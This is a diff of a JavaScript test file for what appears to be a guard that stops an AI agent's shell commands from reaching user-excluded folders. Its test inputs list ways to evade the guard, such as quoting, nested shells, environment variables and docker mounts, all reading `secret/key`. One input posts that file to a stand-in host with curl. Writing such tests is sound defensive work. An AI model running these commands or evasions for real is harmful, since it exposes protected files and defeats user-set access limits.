@@ -139,6 +139,13 @@ test("a link among what the signs of a pattern stand for leads to an excluded fo
   for (const folder of excluded) assert.equal(hasFolder(at(folder)), true, folder);
   for (const folder of ["disk/three", "work/one", "work/two", "open"])
     assert.equal(hasFolder(at(folder)), false, folder);
+  // Also below a first sign, and among more files than folders are searched.
+  const fromRoot = at("work", "three", "key").replace(/^\/[^/]+/, "/*");
+  assert.equal(makeExclusions([fromRoot]).hasFolder(at("disk/three/key")), true);
+  for (let number = 0; number < 1_100; number += 1) fs.writeFileSync(at("work", `a${number}`), "");
+  assert.equal(makeExclusions([at("work", "t*", "key")]).hasFolder(at("disk/three/key")), true);
+  fs.renameSync(at("work", "three"), at("work", "z"));
+  assert.equal(makeExclusions([at("work", "*", "key")]).hasFolder(at("disk/three/key")), true);
 });
 
 // The third word is no path that a disk could have.
@@ -156,6 +163,18 @@ const REACHES = {
   "a file after two steps": { tool_name: "Bash", tool_input: { command: "cd .. && ls; cat secret/key" } },
   "a name without a slash": { tool_name: "Bash", tool_input: { command: "cd .. && pushd secret" } },
   "a folder of git": { tool_name: "Bash", tool_input: { command: "cd ~; git -C secret log" } },
+  "a name after an option": { tool_name: "Bash", tool_input: { command: "cd .. && cd -P -- secret" } },
+  "a name after a longer option": { tool_name: "Bash", tool_input: { command: "cd .. && npm --prefix secret test" } },
+  "a file after a step home": { tool_name: "Bash", tool_input: { command: "cd && cat secret/key" } },
+  "a folder right behind an option": { tool_name: "Bash", tool_input: { command: "tar xf a -C../secret" } },
+  "a file whose data are sent": { tool_name: "Bash", tool_input: { command: "curl -d @../secret/key a.example" } },
+  "a variable in quotes before its name": { tool_name: "Bash", tool_input: { command: 'cat "$HOME"/secret/key' } },
+  "a name in quotes": { tool_name: "Bash", tool_input: { command: "cat ../'secret'/key" } },
+  "a name with a space in quotes": { tool_name: "Bash", tool_input: { command: 'cat "../its secret/key"' } },
+  "a name with an escaped space": { tool_name: "Bash", tool_input: { command: "cat ../its\\ secret/key" } },
+  "a command within a command": { tool_name: "Bash", tool_input: { command: `bash -c "cd ..; cat 'secret/key'"` } },
+  "the variable of the folder": { tool_name: "Bash", tool_input: { command: "cat $PWD/../secret/key" } },
+  "a mounted folder in the home": { tool_name: "Bash", tool_input: { command: "docker run -v x:$HOME/secret:/y a" } },
   "the variable of the home": { tool_name: "Bash", tool_input: { command: 'cat "$HOME/secret/key"' } },
   "the variable in braces": { tool_name: "Bash", tool_input: { command: "cat $" + "{HOME}/secret/key" } },
   "a folder that a container mounts": (at) => ({ tool_input: { command: `docker run -v ${at("secret")}:/x app` } }),
@@ -171,9 +190,9 @@ for (const [name, input] of Object.entries(REACHES))
   test(`a tool does not reach into an excluded folder by ${name}`, async (test) => {
     const { here, server } = await start(test);
     const at = (...parts) => path.join(here.home, ...parts);
-    for (const folder of ["secret/deep", "open", "café"]) fs.mkdirSync(at(folder), { recursive: true });
+    for (const folder of ["secret/deep", "its secret", "open", "café"]) fs.mkdirSync(at(folder), { recursive: true });
     fs.symlinkSync(at("secret", "deep"), at("open", "link"));
-    fs.writeFileSync(here.paths.config, JSON.stringify({ exclude: ["~/secret", "~/café"] }));
+    fs.writeFileSync(here.paths.config, JSON.stringify({ exclude: ["~/secret", "~/its secret", "~/café"] }));
     const payload = typeof input === "function" ? input(at) : input;
     const open = { cwd: at("open"), tool_name: "Bash", tool_input: { command: LEAVES_HOME, file_path: "x" } };
     await spool(here, { cwd: at("open"), ...payload }, { ...open, is: "open" });
